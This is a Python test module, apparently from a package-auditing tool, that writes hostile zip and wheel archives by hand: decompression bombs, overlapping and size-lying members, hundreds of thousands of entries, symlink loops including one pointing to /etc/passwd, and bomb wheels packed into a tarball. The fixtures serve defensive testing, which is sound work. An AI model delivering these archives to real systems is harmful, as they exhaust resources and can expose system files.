"""Zip files: bombs, members that overlap, lie about their sizes, or are there by the hundred thousand."""

import io
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Mapping
from functools import cache
from pathlib import Path

from audit_samples import elf, wheel

from hostile.attack import attack

NAME = "demo-1.0-py3-none-any.whl"
INFO: Mapping[str, bytes] = {
    "demo-1.0.dist-info/METADATA": b"Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n",
    "demo-1.0.dist-info/WHEEL": b"Wheel-Version: 1.0\nTag: py3-none-any\n",
    "demo-1.0.dist-info/RECORD": b"",
}


class Zip:
    """A zip file written by hand."""

    def __init__(self) -> None:
        self._body = bytearray()
        self._directory: list[bytes] = []
        for name, data in INFO.items():
            self.member(name, data)

    def data(self, name: str, packed: bytes) -> int:
        """Write a local header and its data, and return its offset."""
        at = len(self._body)
        raw = name.encode("utf-8", "surrogatepass")
        self._body += (
            struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, 0, len(packed), 0, len(raw), 0)
            + raw
            + packed
        )
        return at

    def entry(
        self,
        name: str,
        at: int,
        packed: int,
        size: int,
        *,
        crc: int = 0,
        method: int = 8,
        flags: int = 0,
        mode: int = 0,
    ) -> None:
        """Add a line to the directory."""
        raw = name.encode("utf-8", "surrogatepass")
        start = struct.pack("<IHHHHHHIII", 0x02014B50, 20, 20, flags, method, 0, 0, crc, packed, size)
        self._directory.append(start + struct.pack("<HHHHHII", len(raw), 0, 0, 0, 0, mode << 16, at) + raw)

    def member(self, name: str, data: bytes, *, size: int | None = None, mode: int = 0) -> None:
        """Add a member, of a `size` that may be a lie."""
        packer = zlib.compressobj(9, zlib.DEFLATED, -15)
        packed = packer.compress(data) + packer.flush()
        at = self.data(name, packed)
        self.entry(
            name, at, len(packed), len(data) if size is None else size, crc=zlib.crc32(data), mode=mode
        )

    def write(self, folder: Path, name: str = NAME) -> list[Path]:
        directory = b"".join(self._directory)
        count = min(len(self._directory), 0xFFFF)
        end = b""
        if len(self._directory) > 0xFFFF:
            sizes = (len(self._directory), len(self._directory), len(directory), len(self._body))
            end += struct.pack("<IQHHIIQQQQ", 0x06064B50, 44, 45, 45, 0, 0, *sizes)
            end += struct.pack("<IIQI", 0x07064B50, 0, len(self._body) + len(directory), 1)
        end += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, len(directory), len(self._body), 0)
        path = folder / name
        path.write_bytes(bytes(self._body) + directory + end)
        return [path]


def _bomb(size: int, head: bytes = b"") -> bytes:
    """Pack zeros by packing one block, which stands by itself, and repeating it."""
    first, last = zlib.compressobj(9, zlib.DEFLATED, -15), zlib.compressobj(9, zlib.DEFLATED, -15)
    start = first.compress(head) + first.flush(zlib.Z_FULL_FLUSH)
    return start + _packed_block() * (size >> 24) + last.flush()


@cache
def _packed_block() -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return packer.compress(bytes(1 << 24)) + packer.flush(zlib.Z_FULL_FLUSH)


def _crc(size: int, head: bytes = b"") -> int:
    crc, block = zlib.crc32(head), bytes(1 << 24)
    for _ in range(size >> 24):
        crc = zlib.crc32(block, crc)
    return crc


@attack
def a_bomb(folder: Path) -> list[Path]:
    """900 kB that are 900 MB, an object by its first bytes."""
    archive, head = Zip(), elf()
    packed, crc = _bomb(900 << 20, head), _crc(900 << 20, head)
    at = archive.data("demo/a.so", packed)
    archive.entry("demo/a.so", at, len(packed), len(head) + (900 >> 4 << 24), crc=crc)
    return archive.write(folder)


@attack
def overlapping_members(folder: Path) -> list[Path]:
    """One bomb under 2,000 names."""
    archive, head = Zip(), elf()
    packed, crc = _bomb(500 << 20, head), _crc(500 << 20, head)
    at = archive.data("demo/a.so", packed)
    for n in range(2_000):
        archive.entry(f"demo/a{n}.so", at, len(packed), len(head) + (500 >> 4 << 24), crc=crc)
    return archive.write(folder)


@attack
def more_than_declared(folder: Path) -> list[Path]:
    archive, head = Zip(), elf()
    for n in range(200):
        packed = _bomb(64 << 20, head)
        at = archive.data(f"demo/a{n}.so", packed)
        archive.entry(f"demo/a{n}.so", at, len(packed), 4 << 20)
    return archive.write(folder)


@attack
def a_record_that_is_a_bomb(folder: Path) -> list[Path]:
    archive = Zip()
    packed, crc = _bomb(480 << 20), _crc(480 << 20)
    at = archive.data("x", packed)
    archive.entry("demo-1.0.dist-info/RECORD", at, len(packed), 480 << 20, crc=crc)
    return archive.write(folder)


@attack
def empty_members(folder: Path) -> list[Path]:
    archive = Zip()
    archive.member("demo/a.so", elf())
    at = archive.data("", b"\x03\x00")
    for n in range(400_000):
        archive.entry(f"d/{n}", at, 2, 0)
    return archive.write(folder)


@attack
def stored_members_of_one_place(folder: Path) -> list[Path]:
    """Stored members that all lie in the same megabytes."""
    archive, data = Zip(), elf(sections={".text": bytes(900_000)})
    at = archive.data("demo/a.so", data)
    for n in range(12_000):
        archive.entry(f"demo/a{n}.so", at, len(data), len(data), crc=zlib.crc32(data), method=0)
    return archive.write(folder)


@attack
def long_names(folder: Path) -> list[Path]:
    archive = Zip()
    at = archive.data("", b"\x03\x00")
    for n in range(3_000):
        archive.entry("/".join(["a"] * 30_000) + f"/{n}.so", at, 2, 0)
    return archive.write(folder)


@attack
def symlink_members(folder: Path) -> list[Path]:
    archive = Zip()
    for n in range(50):
        archive.member(f"demo/l{n}.so", f"l{(n + 1) % 50}.so".encode(), mode=0o120777)
    archive.member("demo/passwd.so", b"/etc/passwd", mode=0o120777)
    return archive.write(folder)


@attack
def encrypted_members(folder: Path) -> list[Path]:
    archive = Zip()
    at = archive.data("demo/a.so", elf())
    archive.entry("demo/a.so", at, len(elf()), len(elf()), flags=1)
    archive.entry("demo-1.0.dist-info/METADATA", at, 100, 100, flags=1)
    return archive.write(folder)


@attack
def other_methods(folder: Path) -> list[Path]:
    archive = Zip()
    for method in (1, 9, 12, 14, 93, 95, 97, 99):
        at = archive.data("x", b"\x05\x00\x5d\x00\x00\x80\x00" + bytes(60))
        archive.entry(f"demo/a{method}.so", at, 67, 100, method=method)
        archive.entry(f"demo/a{method}.py", at, 67, 100, method=method)
    archive.entry("demo-1.0.dist-info/METADATA", at, 67, 100, method=14)
    return archive.write(folder)


@attack
def a_comment_of_ends(folder: Path) -> list[Path]:
    (path,) = Zip().write(folder)
    path.write_bytes(path.read_bytes() + b"PK\x05\x06" * 16_000)
    return [path]


@attack
def a_directory_of_extras(folder: Path) -> list[Path]:
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w") as archive:
        for name, data in INFO.items():
            archive.writestr(name, data)
        for n in range(300):
            info = zipfile.ZipInfo(f"demo/{n}")
            info.extra = struct.pack("<HH", 0xCAFE, 0) * 15_000
            archive.writestr(info, b"")
    path = folder / NAME
    path.write_bytes(written.getvalue())
    return [path]


@attack
def bad_beside_good(folder: Path) -> list[Path]:
    """One bad wheel of each sort beside a sound one."""
    sound = wheel(folder, {"demo/a.so": elf()})
    (folder / "cut-1.0-py3-none-any.whl").write_bytes(sound.read_bytes()[:-30])
    (folder / "none-1.0-py3-none-any.whl").write_bytes(b"PK\x05\x06" + bytes(18))
    (folder / "bomb").mkdir()
    bomb = overlapping_members(folder / "bomb")
    return [folder / "cut-1.0-py3-none-any.whl", folder / "none-1.0-py3-none-any.whl", *bomb, sound]


@attack
def wheels_of_bombs_in_a_tar(folder: Path) -> list[Path]:
    """30 wheels of 300 MB each, none of them too large by itself: all are in one file of some kilobytes."""
    bombs, head = Zip(), elf()
    packed, crc = _bomb(16 << 20, head), _crc(16 << 20, head)
    at = bombs.data("demo/a.so", packed)
    for n in range(19):
        bombs.entry(f"demo/a{n}.so", at, len(packed), len(head) + (1 << 24), crc=crc)
    (one,) = bombs.write(folder)
    path = folder / "demo-1.0.tar.gz"
    with tarfile.open(path, "w:gz") as tar:
        for n in range(30):
            tar.add(one, f"demo-1.0/demo{n}-1.0-py3-none-any.whl")
    return [path]
